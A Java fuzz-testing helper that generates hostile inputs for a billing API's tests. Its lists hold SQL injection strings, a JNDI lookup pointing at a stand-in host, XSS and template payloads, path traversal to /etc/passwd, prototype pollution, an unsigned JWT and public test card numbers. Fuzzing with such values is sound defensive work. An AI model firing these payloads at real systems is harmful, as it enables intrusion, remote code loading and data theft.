package dev.billing.api.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * What a hostile client sends: injection strings, unicode that breaks naive code, numbers at and
 * beyond every limit, dates on leap days and DST changes, card numbers, and garbage.
 */
final class HostileValues {
  private HostileValues() {}

  private static final ObjectMapper JSON = new ObjectMapper();

  /** Card numbers and an IBAN: never to be accepted, stored or echoed. */
  static final List<String> PAYMENT_NUMBERS =
      List.of(
          "4242424242424242",
          "4000 0566 5566 5556",
          "5555-5555-5555-4444",
          "378282246310005",
          "GB82WEST12345698765432");

  static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "\t",
          "\u0000",
          "nul\u0000byte",
          "line\nbreak",
          "\r\n",
          "' OR '1'='1",
          "1; DROP TABLE billing; --",
          "\"; --",
          "${jndi:ldap://evil.test/a}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "../../etc/passwd",
          "..",
          ".",
          "%00",
          "%2e%2e%2f",
          "ACC#acc-1",
          "SUB#sub#SKU#x",
          "#",
          "APIKEYS",
          "KEY#0123456789abcdef",
          "\\",
          "{\"$gt\":\"\"}",
          "☃",
          "😀",
          "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
          "\u202Eevil",
          "e\u0301",
          "\uFEFFbom",
          "\u200B",
          "\uD800",
          "İ",
          "ß",
          "ﬀ",
          "١٢٣",
          "９．９９",
          "NaN",
          "Infinity",
          "-0",
          "-0.00",
          "0",
          "0.001",
          "1e3",
          "9.99",
          "1000000000",
          "1000000000.01",
          "99999999999999999999",
          "-1",
          "2147483648",
          "2024-02-29",
          "2025-02-29",
          "2026-02-29",
          "2028-02-29",
          "2026-03-29",
          "2026-10-25",
          "2026-11-01",
          "2026-03-08",
          "2026-03-10",
          "2026-03-09",
          "0000-01-01",
          "9999-12-31",
          "+10000-01-01",
          "-0001-01-01",
          "2026-3-1",
          "2026-03-10T02:30:00+01:00",
          "P1Y",
          "P-1D",
          "Europe/Paris",
          "America/New_York",
          "Pacific/Kiritimati",
          "Asia/Kathmandu",
          "Etc/GMT+12",
          "UTC",
          "Z",
          "+05:30",
          "SystemV/AST4",
          "America/Nowhere",
          "pm_card_visa",
          "pm_card_chargeDeclined",
          "pm_sandbox_recoversAfter_999999999999",
          "cus_x/pm_y",
          "pm_" + "a".repeat(200),
          "MONTHLY",
          "YEARLY",
          "monthly",
          "operator",
          "account",
          "acc-1",
          "sub_0",
          "a".repeat(64),
          "a".repeat(65),
          "a".repeat(4097),
          "bk_" + "0".repeat(16) + "_" + "0".repeat(64),
          "4242424242424242",
          "4000 0566 5566 5556",
          "GB82WEST12345698765432");

  /** JSON values that are not strings (and a few that are not JSON at all). */
  static final List<String> RAW_VALUES =
      List.of(
          "null",
          "true",
          "false",
          "0",
          "-0",
          "-0.0",
          "1",
          "1.5",
          "31",
          "32",
          "29",
          "28",
          "-1",
          "1e2",
          "1e400",
          "-1e400",
          "99999999999999999999",
          "2147483648",
          "-2147483649",
          "9223372036854775808",
          "1" + "0".repeat(1200),
          "NaN",
          "Infinity",
          "[]",
          "{}",
          "[1,2]",
          "{\"a\":1}",
          "[\"x\"]",
          "[".repeat(40) + "]".repeat(40),
          "4242424242424242",
          "\"",
          "'single'",
          "undefined",
          "0x10",
          "01");

  /** Whole bodies that are wrong as a whole. */
  static final List<String> BODIES =
      List.of(
          "",
          " ",
          "null",
          "[]",
          "{",
          "}",
          "{} {}",
          "{\"a\":1,}",
          "not json",
          "\uFEFF{}",
          "\"just a string\"",
          "42",
          "[".repeat(100) + "]".repeat(100),
          "{\"a\":" + "{\"a\":".repeat(50) + "1" + "}".repeat(51),
          "{\"x\":\"" + "y".repeat(70_000) + "\"}",
          "{\"__proto__\":{\"admin\":true}}");

  static final List<String> CONTENT_TYPES =
      List.of(
          "application/json",
          "application/json; charset=utf-8",
          "application/json; charset=utf-16",
          "text/plain",
          "application/x-www-form-urlencoded",
          "application/xml",
          "application/merge-patch+json",
          "*/*",
          "application/problem+json");

  static final List<String> LIMITS =
      List.of(
          "0",
          "1",
          "200",
          "201",
          "-1",
          "1e2",
          "1.0",
          "١٠",
          " 5 ",
          "2147483648",
          "99999999999999999999",
          "",
          "ten");

  /** Credentials that authenticate nobody. */
  static final List<String> BAD_CREDENTIALS =
      List.of(
          "Bearer",
          "Bearer ",
          "Bearer dev",
          "Bearer bk_",
          "Bearer bk_0123456789abcdef_" + "0".repeat(64),
          "Bearer bk_ZZZZ",
          "Basic YWRtaW46YWRtaW4=",
          "bearer ' OR 1=1 --",
          "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
          "Bearer a.b.c",
          "Bearer " + "x".repeat(6000),
          "Token abc",
          "Bearer ${jndi:ldap://evil.test/a}");

  static String quoted(String value) {
    try {
      return JSON.writeValueAsString(value);
    } catch (JsonProcessingException e) {
      throw new AssertionError(e);
    }
  }

  /** A string a hostile client might put anywhere: listed, or arbitrary unicode, or digits. */
  static Arbitrary<String> string() {
    return Arbitraries.oneOf(
        List.of(
            Arbitraries.of(STRINGS),
            Arbitraries.strings().all().ofMaxLength(40),
            Arbitraries.strings().withCharRange('0', '9').ofMinLength(1).ofMaxLength(25)));
  }

  /** A JSON value: a hostile string (quoted) or a raw literal. */
  static Arbitrary<String> jsonValue() {
    return Arbitraries.oneOf(string().map(HostileValues::quoted), Arbitraries.of(RAW_VALUES));
  }
}
